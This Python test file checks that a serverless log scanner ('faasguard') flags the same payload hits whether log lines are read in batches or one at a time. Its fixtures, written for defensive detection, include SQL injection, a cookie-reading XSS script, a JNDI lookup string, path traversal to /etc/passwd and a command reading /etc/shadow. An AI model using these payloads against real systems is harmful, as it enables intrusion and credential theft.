"""LOG017 reads the lines its gate keeps a batch at a time (``lines_hits``): one engine call
for all their values, then only the lines with a hit are read again. The hits, their paths
and their order must be those of reading each line alone (``message_hits``)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from faasguard.logs.payload_hits import lines_hits, message_hits

VALUES = Path(__file__).parents[2].parent / "shared" / "payloads" / "values.tsv"

_ERROR = (
    "2024-05-01T10:15:55.334Z\t9d7ada93-809c-45ad-3da8-a8a0fad219b3\tERROR\tInvoke Error \t"
    '{"errorType":"TypeError","errorMessage":"request %d failed","stack":["TypeError: '
    'request %d failed","    at Runtime.handler (/var/task/index.js:12:20)"]}'
)
_RECEIVED = "Received event: " + json.dumps(
    {"httpMethod": "POST", "path": "/orders", "body": "' OR 1=1 UNION SELECT password FROM u--"}
)

#: Log lines of every shape the reader tells apart, with and without payloads.
MIXED = [
    *(_ERROR % (n, n) for n in (153303, 42, 153303)),  # one line twice: counted twice
    _RECEIVED,  # a JSON document after some words
    "[ERROR] KeyError: request 859329 failed\rTraceback (most recent call last):\r"
    '  File "/var/task/app.py", line 42, in handler',  # plain text, no hit
    "user input: <script>alert(document.cookie)</script>",  # plain text, a hit
    # a JSON log line whose message field holds a logged event (JSON in JSON)
    json.dumps({"level": "INFO", "message": _RECEIVED, "requestId": "4f1c"}),
    # ... a base64 body inside it: only the decoded leaf holds the payload
    json.dumps(
        {
            "message": "event: "
            + json.dumps({"isBase64Encoded": True, "body": "Li4vLi4vLi4vZXRjL3Bhc3N3ZA=="})
        }
    ),
    # ... and one whose message field holds a document that is itself a log line
    json.dumps({"level": "INFO", "msg": json.dumps({"message": "cat ${jndi:ldap://e.example/a}"})}),
    # two documents on one line: the first is read, the second is not
    '{"q": "fine"} then {"q": "../../../../etc/passwd"}',
    '{"q": "../../../../etc/passwd"} then {"q": "fine"}',
    # invalid JSON: the message is read whole
    '{"q": "\' OR 1=1--", broken',
    '{"q": "fine", broken (still read whole)',
    '["array", {"deep": ["; cat /etc/shadow"]}]',  # an array holding an object
    "",
    "processed item 72219 for tenant t-25 (ok)",
]


def test_batch_reads_lines_as_line_by_line() -> None:
    expected = [message_hits(line) for line in MIXED]
    assert sum(1 for found in expected if found) == 8  # hits, and lines without any
    assert lines_hits(MIXED) == expected
    # in other batch sizes and orders
    assert [lines_hits([line])[0] for line in MIXED] == expected
    assert lines_hits(MIXED[::-1]) == expected[::-1]
    assert lines_hits([]) == []


def test_batch_paths_and_values() -> None:
    found = lines_hits(MIXED)
    assert [(h.path, h.detection.cls) for h in found[3]] == [("$.body", "sqli")]
    assert [(h.path, h.detection.cls) for h in found[6]] == [("$.message<json>.body", "sqli")]
    assert [(h.path, h.detection.cls) for h in found[7]] == [
        ("$.message<json>.body<base64>", "path-traversal")
    ]
    assert {(h.path, h.detection.cls) for h in found[8]} == {("$.msg<json>.message", "jndi")}
    assert found[9] == [] and [h.path for h in found[10]] == ["$.q"]
    assert [h.path for h in found[11]] == ["$"] and found[12] == []
    # the first "{" starts the document read (here the array's object)
    assert [(h.path, h.detection.cls) for h in found[13]] == [("$.deep[0]", "cmdi")]


@pytest.mark.skipif(not VALUES.exists(), reason="../shared/payloads not beside")
def test_batch_on_the_payload_set() -> None:
    rows = VALUES.read_text(encoding="utf-8").splitlines()[1::41]
    values = [row.split("\t", 2)[2] for row in rows]  # escaped as stored: fine for this
    lines = [
        line
        for value in values
        for line in (
            "Received event: " + json.dumps({"body": value, "q": {"v": value}}),
            json.dumps({"message": "event: " + json.dumps({"body": value})}),
            "input " + value,
        )
    ]
    expected = [message_hits(line) for line in lines]
    assert sum(1 for found in expected if found) > 100
    assert lines_hits(lines) == expected
    assert lines_hits(lines[:50]) + lines_hits(lines[50:]) == expected
